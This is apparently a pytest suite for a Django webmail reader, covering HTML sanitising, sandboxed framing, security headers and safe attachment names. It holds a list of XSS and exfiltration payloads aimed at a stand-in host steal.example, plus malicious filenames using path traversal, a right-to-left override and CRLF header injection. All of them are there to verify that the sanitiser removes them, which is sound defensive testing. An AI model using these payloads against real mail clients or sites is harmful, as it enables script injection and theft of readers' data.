"""One mail on its page: what a reader sees of it, and what of it may act."""

import base64
import re
from html import unescape
from pathlib import Path

import pytest
from django.test import Client
from django.urls import reverse

from accounts import actions, unlocked
from mail.cleanroom import MAX_INLINE_BYTES
from mail.models import MessageBody, SystemFlag
from mail.parcels import Attachment
from mail.reading import file_name
from tests.mail.stocked import letter, page_mail
from tests.pipeline.test_pages import signed_in, words

pytestmark = pytest.mark.django_db

CORPUS = sorted((Path(__file__).parent.parent / "messages").glob("*.eml"))
PARTS = ["message", "message_html", "message_source", "message_file", "attachment"]
PNG = base64.b64decode(
    "iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR4nGP4z8DwHwAFAAH/VscvDQAAAABJRU5ErkJggg=="
)


def url(name: str, message) -> str:
    return reverse(name, args=[message.pk, 1] if name == "attachment" else [message.pk])


def related(html: str, *files: tuple[str, str, bytes]) -> bytes:
    """An HTML mail with files of (Content-ID, content type, bytes)."""
    parts = [f"Content-Type: text/html; charset=utf-8\r\n\r\n{html}"]
    for name, kind, data in files:
        head = f"Content-Type: {kind}\r\nContent-ID: <{name}>\r\nContent-Transfer-Encoding: base64\r\n\r\n"
        parts.append(head + base64.b64encode(data).decode())
    body = "\r\n--edge\r\n" + "\r\n--edge\r\n".join(parts) + "\r\n--edge--"
    return letter("Pictures", body, more=["Content-Type: multipart/related; boundary=edge"])


def with_file(disposition: str, kind="text/html", data="<script>alert(1)</script>") -> bytes:
    parts = [
        "Content-Type: text/plain\r\n\r\nSee the file",
        f"Content-Type: {kind}\r\nContent-Disposition: {disposition}\r\n\r\n{data}",
    ]
    body = "\r\n--edge\r\n" + "\r\n--edge\r\n".join(parts) + "\r\n--edge--"
    return letter("A file", body, more=["Content-Type: multipart/mixed; boundary=edge"])


@pytest.fixture
def framed(browser, stock):
    """The frame's content for an HTML mail: framed(html, images="remote")."""

    def framed(html: str, **asked) -> str:
        [message] = stock.put(page_mail(html))
        return browser.get(url("message_html", message), asked).text.partition("<body>")[2]

    return framed


def test_every_mail_of_the_corpus_can_be_read(browser, stock):
    for message in stock.put(*(path.read_bytes() for path in CORPUS)):
        page = browser.get(url("message", message))
        assert page.status_code == 200
        framed = browser.get(url("message_html", message)).status_code
        assert framed == (200 if "<iframe" in page.text else 404)
        for link in re.findall(r'href="([^"]*/attachments/\d+/)"', page.text):
            assert browser.get(link).status_code == 200


def test_a_mail_is_shown_with_its_header_text_and_files(browser, stock):
    raw = with_file('attachment; filename="plan.pdf"', "application/pdf", "%PDF")
    raw = raw.replace(b"To: anna", b"Cc: Carl <carl@example.org>\r\nTo: anna")
    [message] = stock.put(raw, folder="Projects", flags=SystemFlag.FLAGGED)
    page = unescape(words(browser.get(url("message", message)).text))
    assert "A file" in page and "Eva eva@example.com" in page and "Carl carl@example.org" in page
    assert "See the file" in page and "plan.pdf" in page
    assert "Folder Projects" in page and "Unread ★ Flagged" in page


def test_an_address_in_a_text_is_a_link(browser, stock):
    [message] = stock.put(letter(body="See https://example.org/?a=1&b=<2>"))
    assert '<a href="https://example.org/?a=1&amp;b=' in browser.get(url("message", message)).text


def test_the_date_of_a_mail_is_in_the_readers_zone(browser, stock, anna):
    actions.set_time_zone(anna.user, "Europe/Berlin")
    [message] = stock.put(letter(more=["Date: Mon, 02 Mar 2026 10:15:00 +0000"]))
    assert "March 2, 2026, 11:15 a.m. CET" in browser.get(url("message", message)).text


def test_text_is_shown_as_text(browser, stock):
    [message] = stock.put(letter("<b>Subject</b>", "<script>alert(1)</script>"))
    page = browser.get(url("message", message)).text
    assert "<script>alert" not in page and "&lt;script&gt;alert(1)" in page
    assert "<b>Subject" not in page


@pytest.mark.parametrize("part", PARTS)
def test_who_is_locked_unlocks_and_comes_back(browser, stock, part):
    [message] = stock.put(letter())
    browser.cookies.pop(unlocked.COOKIE)
    answer = browser.get(url(part, message))
    assert answer["Location"] == f"{reverse('unlock')}?next={url(part, message)}"


@pytest.mark.parametrize("part", PARTS)
def test_anothers_mail_looks_like_none(stock, bert, part):
    [message] = stock.put(with_file("attachment; filename=a.txt").replace(b"text/plain", b"text/html"))
    theirs = signed_in(Client(), bert)
    there = theirs.get(url(part, message))
    message.pk = "00000000-0000-4000-8000-000000000000"
    assert there.status_code == theirs.get(url(part, message)).status_code == 404


@pytest.mark.parametrize("part", PARTS)
def test_reading_changes_nothing_and_is_not_kept_by_the_browser(browser, stock, part):
    [message] = stock.put(with_file("attachment; filename=a.txt").replace(b"text/plain", b"text/html"))
    assert browser.post(url(part, message)).status_code == 405
    answer = browser.get(url(part, message))
    assert answer.status_code == 200 and "no-store" in answer["Cache-Control"]


# What a mail may try, and what of it would act if it were left.
ATTACKS = {
    "script": ("<script>steal()</script>", "steal"),
    "event": ("<img src=x onerror=steal()>", "steal"),
    "event in odd case": ("<img/src=x OnErRoR='steal()'>", "steal"),
    "javascript link": ("<a href='javascript:steal()'>x</a>", "steal"),
    "javascript link in pieces": ("<a href=' java\nscript&colon;steal()'>x</a>", "steal"),
    "data link": ("<a href='data:text/html,<script>steal()</script>'>x</a>", "steal"),
    "data link in odd case": ("<a href='DATA:text/html;base64,c3RlYWw='>x</a>", "c3RlYWw"),
    "svg": ("<svg onload=steal()><script>steal()</script></svg>", "steal"),
    "svg picture": ("<img src='data:image/svg+xml,<svg onload=steal()>'>", "steal"),
    "math": ("<math><mtext><style><img src=x onerror=steal()></style></mtext></math>", "steal"),
    "style": ("<style>p{background:url(https://steal.example/)}</style>", "steal"),
    "style expression": ("<p style='width:expression(steal())'>x</p>", "steal("),
    "style position": ("<p style='position:fixed;top:0;left:0;z-index:9'>x</p>", "position"),
    "behaviour": ("<p style='-moz-binding:steal;behavior:steal'>x</p>", "steal"),
    "refresh": ("<meta http-equiv=refresh content='0;url=https://steal.example/'>", "steal"),
    "base": ("<base href='https://steal.example/'><a href=x>x</a>", "steal"),
    "form": ("<form action='https://steal.example/'><input name=p><button>x</button></form>", "steal"),
    "button action": ("<button formaction='https://steal.example/'>x</button>", "steal"),
    "frame": ("<iframe src='https://steal.example/' srcdoc='steal'></iframe>", "steal"),
    "object": ("<object data='https://steal.example/'><embed src='https://steal.example/'>", "steal"),
    "link": ("<link rel=stylesheet href='https://steal.example/'>", "steal"),
    "prefetch": ("<link rel=dns-prefetch href='//steal.example'>", "steal"),
    "remote picture": ("<img src='https://steal.example/p.gif'>", "steal"),
    "remote picture set": ("<img src=x srcset='https://steal.example/ 2x'>", "steal"),
    "remote background": ("<table background='https://steal.example/'><tr><td>x</table>", "steal"),
    "remote in a style": ("<p style='background:url(https://steal.example/)'>x</p>", "steal"),
    "remote in a disguised style": ("<p style='background:u\\72l(https://steal.example/)'>x</p>", "steal"),
    "video": ("<video poster='https://steal.example/' src='https://steal.example/'></video>", "steal"),
    "protocol of the page": ("<img src='//steal.example/p.gif'>", "steal"),
    "own path": ("<img src='/sign-out/'>", "sign-out"),
    "comment": ("<!--><img src=x onerror=steal()>-->", "steal"),
    "mutation": (
        "<noscript><p title='</noscript><img src=x onerror=steal()>'></noscript>",
        "onerror=steal()>",
    ),
    "name": ("<a id=location name=location>x</a>", "location"),
}


@pytest.mark.parametrize("attack", ATTACKS)
def test_html_that_would_act_is_left_out(framed, attack):
    html, trace = ATTACKS[attack]
    shown = framed(f"<p>before</p>{html}<p>after</p>")
    assert "<p>before</p>" in shown
    assert trace not in unescape(re.sub(r">[^<]*<", "><", shown))


def test_what_stands_beside_the_text_is_not_shown_as_text(framed):
    head = "<title>steal</title><style>steal</style><script>steal</script><svg><text>steal</text></svg>"
    assert framed(f"{head}<p>Hello</p>").strip() == "<p>Hello</p>"


TANGLED = {
    "time": "<div>" * 150_000,
    "memory": "".join(f"<font color={number}><p>" for number in range(10_000)),
}


@pytest.mark.parametrize("kind", TANGLED)
def test_html_that_would_take_all_time_or_memory_is_given_up_and_its_text_shown(browser, stock, kind):
    [message] = stock.put(page_mail(f"<p>Hello</p>{TANGLED[kind]}"))
    page = browser.get(url("message", message)).text
    assert "too tangled or too large" in page and "Hello" in page and "<iframe" not in page


def test_a_picture_that_is_used_a_thousand_times_is_given_up(browser, stock):
    used = "<p>Hello</p>" + '<img src="cid:one">' * 1000
    [message] = stock.put(related(used, ("one", "image/png", bytes(100_000))))
    assert "too tangled or too large" in browser.get(url("message", message)).text


def test_a_link_opens_elsewhere_and_tells_nobody_where_from(framed):
    shown = framed(
        '<a href="https://example.org/?a=1" target="_top" rel="opener" ping="https://a/">there</a>'
    )
    assert shown.startswith(
        '<a href="https://example.org/?a=1" target="_blank" rel="noopener noreferrer">there</a>'
    )


def test_the_frame_has_a_policy_of_its_own_and_loads_nothing_from_elsewhere(browser, stock):
    [message] = stock.put(page_mail("<p>Hello</p>"))
    answer = browser.get(url("message_html", message))
    assert answer["X-DNS-Prefetch-Control"] == "off"
    policy = dict(part.strip().partition(" ")[::2] for part in answer["Content-Security-Policy"].split(";"))
    assert policy["default-src"] == policy["form-action"] == policy["base-uri"] == "'none'"
    assert policy["img-src"] == "data:" and policy["frame-ancestors"] == "'self'"
    assert policy["sandbox"] == "allow-popups allow-popups-to-escape-sandbox"
    assert answer["X-Frame-Options"] == "SAMEORIGIN" and answer["Referrer-Policy"] == "no-referrer"


def test_the_page_frames_it_in_a_sandbox_and_only_this_page_may_frame(browser, stock):
    [html] = stock.put(page_mail("<p>Hello</p>"))
    answer = browser.get(url("message", html))
    [frame] = re.findall("<iframe[^>]*>", answer.text)
    assert 'sandbox="allow-popups allow-popups-to-escape-sandbox"' in frame
    assert f'src="{url("message_html", html)}"' in frame
    assert "frame-src 'self'" in answer["Content-Security-Policy"]
    assert "frame-src" not in browser.get(reverse("mail"))["Content-Security-Policy"]
    assert answer["X-Frame-Options"] == "DENY"


def test_remote_pictures_are_shown_when_they_are_asked_for_this_once(browser, stock):
    [message] = stock.put(page_mail('<img src="https://a.example/1.png"><img src="http://a.example/2.png">'))
    page = browser.get(url("message", message)).text
    assert "Remote images are not shown" in page and f"{url('message', message)}?images=remote" in page
    asked = browser.get(url("message", message), {"images": "remote"}).text
    assert "whoever sent this mail can learn" in asked
    assert f'src="{url("message_html", message)}?images=remote"' in asked
    frame = browser.get(url("message_html", message), {"images": "remote"})
    assert 'src="https://a.example/1.png"' in frame.text and 'src="https://a.example/2.png"' in frame.text
    assert "img-src data: https:;" in frame["Content-Security-Policy"]


def test_without_remote_pictures_the_page_offers_none(browser, stock):
    [message] = stock.put(page_mail("<p>Hello</p>"))
    assert "emote images" not in browser.get(url("message", message)).text


def test_a_picture_that_the_mail_brings_is_shown_in_its_place(browser, stock):
    html = '<img src="cid:logo%401"><img src="cid:drawing"><img src="cid:nowhere">'
    svg = ("drawing", "image/svg+xml", b"<svg/>")
    [message] = stock.put(related(html, ("logo@1", "image/png", PNG), svg))
    shown = browser.get(url("message_html", message)).text.partition("<body>")[2]
    picture = f"data:image/png;base64,{base64.b64encode(PNG).decode()}"
    assert shown.startswith(f'<img src="{picture}"><img><img>')


def test_pictures_beyond_the_bound_are_left_to_be_downloaded(browser, stock):
    large = ("large", "image/png", bytes(MAX_INLINE_BYTES + 1))
    [message] = stock.put(
        related('<img src="cid:large"><img src="cid:small">', large, ("small", "image/png", PNG))
    )
    shown = browser.get(url("message_html", message)).text
    assert shown.count("data:image/png") == 1 and len(shown) < 10_000


NAMES = {
    'filename="report.pdf"': "report.pdf",
    'filename="../../etc/passwd"': "passwd",
    'filename="C:\\\\Users\\\\eva\\\\plan.doc"': "plan.doc",
    "filename*=utf-8''Gr%C3%BC%C3%9Fe.pdf": "Grüße.pdf",
    "filename*=utf-8''invoice%E2%80%AEfdp.exe": "invoicefdp.exe",
    "filename*=utf-8''a%0D%0ASet-Cookie%3A%20x.txt": "a Set-Cookie_ x.txt",
    'filename=".htaccess"': "htaccess",
    'filename="/"': "attachment-1",
}


@pytest.mark.parametrize("disposition", NAMES)
def test_a_file_is_downloaded_under_a_name_that_is_safe(browser, stock, disposition):
    [message] = stock.put(with_file(f"attachment; {disposition}"))
    answer = browser.get(url("attachment", message))
    header = answer["Content-Disposition"]
    assert header.startswith("attachment; filename") and "\n" not in header and "/" not in header
    assert NAMES[disposition] in words(unescape(browser.get(url("message", message)).text))


def test_a_long_name_keeps_its_ending_and_one_without_a_name_gets_one():
    assert file_name(Attachment("a" * 250 + ".pdf", "application/pdf", b""), 1) == "a" * 100 + ".pdf"
    assert file_name(Attachment("image/png", "image/png", b""), 2) == "attachment-2.png"


@pytest.mark.parametrize(
    ("kind", "offered"),
    [
        ("text/html", "application/octet-stream"),
        ("image/svg+xml", "application/octet-stream"),
        ("application/xhtml+xml", "application/octet-stream"),
        ("application/pdf", "application/pdf"),
        ("image/png", "image/png"),
    ],
)
def test_a_file_that_may_act_is_bytes_to_a_browser(browser, stock, kind, offered):
    [message] = stock.put(with_file('attachment; filename="a.bin"', kind, "data"))
    answer = browser.get(url("attachment", message))
    assert answer["Content-Type"] == offered and answer.content == b"data"
    assert answer["X-Content-Type-Options"] == "nosniff"
    assert answer["Content-Security-Policy"].startswith("sandbox; default-src 'none'")


def test_there_is_no_file_beyond_the_last(browser, stock):
    [message] = stock.put(with_file("attachment; filename=a.txt"))
    assert browser.get(reverse("attachment", args=[message.pk, 2])).status_code == 404
    assert browser.get(reverse("attachment", args=[message.pk, 0])).status_code == 404


def test_the_source_is_what_the_server_sent_byte_for_byte(browser, stock):
    raw = letter("Bytes") + bytes(range(256))
    [message] = stock.put(raw)
    shown, kept = browser.get(url("message_source", message)), browser.get(url("message_file", message))
    assert shown.content == kept.content == raw
    assert shown["Content-Type"].startswith("text/plain") and "sandbox" in shown["Content-Security-Policy"]
    assert kept["Content-Type"] == "message/rfc822" and kept["Content-Disposition"].endswith('.eml"')


def test_of_a_mail_over_the_limit_the_page_says_that_only_its_header_is_here(browser, stock):
    [message] = stock.put(letter("Huge"), header_only=True)
    page = browser.get(url("message", message)).text
    assert "Huge" in page and "only its header was fetched" in page and "has no text" not in page


def test_a_mail_that_cannot_be_taken_apart_is_offered_whole(browser, stock):
    nested = "\r\n".join(f"Content-Type: multipart/mixed; boundary=b{n}\r\n\r\n--b{n}" for n in range(1000))
    [message] = stock.put(nested.encode())
    page = browser.get(url("message", message)).text
    assert "cannot be taken apart" in page and url("message_file", message) in page
    assert browser.get(url("message_file", message)).content == nested.encode()


def test_a_mail_whose_seal_is_broken_says_so(browser, stock):
    [message] = stock.put(letter("Broken"))
    MessageBody.objects.filter(pk=message.pk).update(sealed_raw=b"x" * 100)
    page = browser.get(url("message", message))
    assert page.status_code == 200 and "does not open" in page.text
    assert browser.get(url("message_source", message)).status_code == 404


def test_a_very_long_text_is_cut_on_the_page_and_the_page_says_so(browser, stock):
    [message] = stock.put(letter(body="line of text\r\n" * 40_000))
    page = browser.get(url("message", message)).text
    assert len(page) < 250_000 and "longer than this page shows" in page


def test_reading_needs_few_queries(browser, stock, django_assert_max_num_queries):
    [message] = stock.put(letter())
    for number in range(30):
        stock.folder(f"Folder {number}")
    with django_assert_max_num_queries(12):
        browser.get(url("message", message))
